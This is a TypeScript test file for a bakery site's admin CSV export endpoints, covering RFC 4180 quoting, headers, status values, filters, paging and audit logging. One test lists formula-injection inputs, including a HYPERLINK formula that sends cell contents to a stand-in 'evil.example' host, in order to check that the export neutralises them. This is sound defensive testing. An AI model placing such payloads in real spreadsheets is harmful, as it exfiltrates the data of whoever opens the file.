import { describe, expect, it } from "vitest";
import { askForBread, keepBreads, keepStarters } from "../../../tests/support/asked";
import { type Baker, onEachServer } from "../../../tests/support/server";

/** Reads exactly the grammar of RFC 4180: every record ends with CRLF, quotes are doubled. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let rest = text;
  let record: string[] = [];
  while (rest !== "") {
    const [whole, quoted, plain, end] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest) ?? [];
    if (whole === undefined) throw new Error(`no field begins here: ${rest.slice(0, 50)}`);
    record.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
    rest = rest.slice(whole.length);
    if (end === "\r\n") {
      records.push(record);
      record = [];
    }
  }
  return records;
}

async function download(owner: Baker, path: string) {
  const response = await owner.request("GET", path);
  expect(response.status).toBe(200);
  const bytes = Buffer.from(await response.arrayBuffer());
  // EF BB BF: the mark by which spreadsheets recognize UTF-8.
  expect(bytes.subarray(0, 3).toString("hex")).toBe("efbbbf");
  const text = new TextDecoder("utf-8", { fatal: true }).decode(bytes);
  const [head = [], ...records] = parseCsv(text);
  const rows = records.map((record) => {
    expect(record).toHaveLength(head.length);
    return Object.fromEntries(head.map((name, index) => [name, record[index] ?? ""]));
  });
  return { response, rows };
}

const STARTERS = "/api/admin/starter-requests.csv";
const BREADS = "/api/admin/bread-requests.csv";

onEachServer((start) => {
  describe("GET /api/admin/{type}.csv", () => {
    it("AD-08 is a file named by its list and the day, with all that the list has", async () => {
      const server = await start({ env: { SITE_TIME_ZONE: "Asia/Tokyo" } });
      const owner = await server.owner();
      const at = Date.parse("2026-11-20T15:04:59Z");
      const [id = ""] = await keepStarters(server, [{ name: 'José "Pepe" Ñandú, 酵母', at }]);
      const { response, rows } = await download(owner, STARTERS);
      expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
      const day = new Intl.DateTimeFormat("sv-SE", { timeZone: "Asia/Tokyo" }).format(server.clock.now());
      expect(response.headers.get("content-disposition")).toBe(
        `attachment; filename="starter-requests-${day}.csv"`,
      );
      expect(response.headers.get("cache-control")).toBe("no-store");
      expect(rows).toEqual([
        {
          Date: "2026-11-21 00:04",
          Name: 'José "Pepe" Ñandú, 酵母',
          Email: "ben@example.com",
          Address: "1 Main St",
          "Address 2": "",
          City: "San Francisco",
          State: "CA",
          ZIP: "94110",
          Status: "pending",
          "Earlier requests": "0",
          Id: id,
        },
      ]);
    });

    it("AD-08 marks a request that has ended in its status, so that nobody posts to it", async () => {
      const server = await start();
      const owner = await server.owner();
      const [declined, cancelled] = await keepBreads(server, [
        { name: "Ana" },
        { name: "Ben" },
        { name: "Cy" },
      ]);
      await owner.request("POST", `/api/admin/bread-requests/${declined}/decline`, { text: "I am sorry." });
      await server.database.db
        .updateTable("bread_request")
        .set({ status: "confirmed", closed: "cancelled" })
        .where("id", "=", cancelled ?? "")
        .execute();
      const { rows } = await download(owner, BREADS);
      expect(Object.fromEntries(rows.map(({ Name = "", Status }) => [Name, Status]))).toEqual({
        Ana: "declined",
        Ben: "cancelled",
        Cy: "pending",
      });
    });

    it("AD-08 keeps line breaks within a field, and says which kind of bread is meant", async () => {
      const server = await start();
      const owner = await server.owner();
      await askForBread(server, {
        instructions: 'Two loaves,\r\none dark\n\nand "one" light',
        fulfillment: "pickup",
      });
      const { rows } = await download(owner, BREADS);
      expect(rows[0]).toMatchObject({
        Type: "custom",
        Instructions: 'Two loaves,\r\none dark\n\nand "one" light',
        "Delivery or pickup": "pickup",
        Address: "",
      });
    });

    it("AD-08 contains no formula, whatever separator a spreadsheet splits cells by", async () => {
      const server = await start();
      const owner = await server.owner();
      const hostile = [
        "=1+1",
        "+1-415-555-0100",
        "-2+3",
        "@SUM(A1:A9)",
        '=HYPERLINK("https://evil.example?x="&A1,"Click")',
        "＝1+1",
        " =1+1",
        '"=1+1"',
        "\t=1+1",
        "\n=1+1",
        "Ann;=1+1",
        'Ann;"=1+1"',
        "Ann\t@SUM(A1)",
        "Ann\r\n-1",
      ];
      await keepBreads(
        server,
        hostile.map((text) => ({ name: text, instructions: text, address: text })),
      );
      const { rows } = await download(owner, BREADS);
      expect(rows).toHaveLength(hostile.length);
      for (const { Name = "", Instructions = "", Address = "" } of rows)
        for (const text of [Name, Instructions, Address]) {
          const cells = text.split(/[;\t\r\n]/).map((cell) => cell.replace(/^[\s"]+/, ""));
          expect(cells.filter((cell) => /^[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
          // Without the apostrophes, the text is what was typed.
          expect(hostile).toContain(text.replaceAll(/'(?=[=+\-@＝])/g, ""));
        }
    });

    it("AD-08 leaves text that is no formula as it was typed", async () => {
      const server = await start();
      const owner = await server.owner();
      const plain = ["O'Brien-Smith", "a=b", "Apt #4 @ rear", "5 - 7 pm; then call", "1+1", "'tis"];
      await keepStarters(
        server,
        plain.map((name) => ({ name })),
      );
      const { rows } = await download(owner, STARTERS);
      expect(new Set(rows.map(({ Name }) => Name))).toEqual(new Set(plain));
      expect(rows).toHaveLength(plain.length);
    });

    it("AD-08 breaks off when later pages cannot be read, and a cancelled download is no failure", async () => {
      const server = await start();
      const owner = await server.owner();
      await server.database.transaction(async () => {
        await keepStarters(
          server,
          Array.from({ length: 1501 }, () => ({})),
        );
      });
      const left = (await owner.request("GET", STARTERS)).body?.getReader();
      await left?.read();
      await left?.cancel();
      expect(server.lines.failure ?? []).toEqual([]);
      const broken = (await owner.request("GET", STARTERS)).body?.getReader();
      await broken?.read();
      await server.database.db.schema.alterTable("starter_request").renameTo("gone").execute();
      const rest = async () => {
        while ((await broken?.read())?.done === false);
      };
      await expect(rest()).rejects.toThrow("the answer broke off");
      expect(server.lines.failure).toHaveLength(1);
    }, 60_000);
  });
});

onEachServer((start) => {
  describe("GET /api/admin/{type}.csv with a filter", () => {
    it("AD-08 holds what status and search find, or exactly the requests it names", async () => {
      const server = await start();
      const owner = await server.owner();
      const [ana = "", ben = ""] = await keepStarters(server, [
        { name: "Ana Ruiz" },
        { name: "Ben Ito" },
        { name: "Ana Silva", status: "shipped" },
      ]);
      const names = async (query: string) =>
        (await download(owner, `${STARTERS}?${query}`)).rows
          .map(({ Name }) => Name ?? "")
          .toSorted((a, b) => a.localeCompare(b));
      expect(await names("q=ana")).toEqual(["Ana Ruiz", "Ana Silva"]);
      expect(await names("q=ana&status=pending")).toEqual(["Ana Ruiz"]);
      const exportNamed = async (ids: readonly string[]) => {
        const response = await owner.request("POST", STARTERS, { ids });
        expect([response.status, response.headers.get("content-disposition")]).toEqual([
          200,
          expect.stringMatching(/^attachment; filename="starter-requests-[\d-]+\.csv"$/),
        ]);
        const [, ...records] = parseCsv(await response.text());
        return records.map(([, name]) => name);
      };
      expect(await exportNamed([ana, ben, "nobody"])).toEqual(["Ben Ito", "Ana Ruiz"]);
      expect(await exportNamed([])).toEqual([]);
      const read = await server.database.db
        .selectFrom("audit")
        .select("detail")
        .where("action", "=", "addresses-read")
        .orderBy("id")
        .execute();
      expect(read.map(({ detail }) => detail)).toEqual([
        "any status, searched, as CSV",
        "pending, searched, as CSV",
        "2 selected, as CSV",
        "0 selected, as CSV",
      ]);
    });

    it("AD-08 holds every ticked request, however many, and refuses a body that is no list", async () => {
      const server = await start();
      const owner = await server.owner();
      const ids = await keepStarters(
        server,
        Array.from({ length: 1_203 }, () => ({})),
      );
      const response = await owner.request("POST", STARTERS, { ids: ids.slice(3) });
      expect(parseCsv(await response.text())).toHaveLength(1_201);
      for (const body of [
        {},
        { ids: "all" },
        { ids: [7] },
        { ids: Array.from({ length: 5_001 }, () => "x") },
      ])
        expect((await owner.request("POST", STARTERS, body)).status).toBe(400);
    });

    it("AD-08 holds each request once, newest first, over any number of pages", async () => {
      const server = await start();
      const owner = await server.owner();
      const at = server.clock.now();
      const kept = Array.from({ length: 1003 }, (_, index) => ({
        name: `N${index}`,
        at: at - Math.floor(index / 7),
        status: index % 2 === 0 ? "pending" : "shipped",
      }));
      await server.database.transaction(async () => {
        await keepStarters(server, kept);
      });
      const { rows } = await download(owner, STARTERS);
      expect(new Set(rows.map(({ Name }) => Name)).size).toBe(1003);
      const dates = rows.map(({ Date: date = "" }) => date);
      expect(dates).toEqual(dates.toSorted().toReversed());
      expect((await download(owner, `${STARTERS}?status=shipped`)).rows).toHaveLength(501);
      expect((await download(owner, `${STARTERS}?status=ready`)).rows).toEqual([]);
      expect((await download(owner, BREADS)).rows).toEqual([]);
    }, 60_000);
  });
});
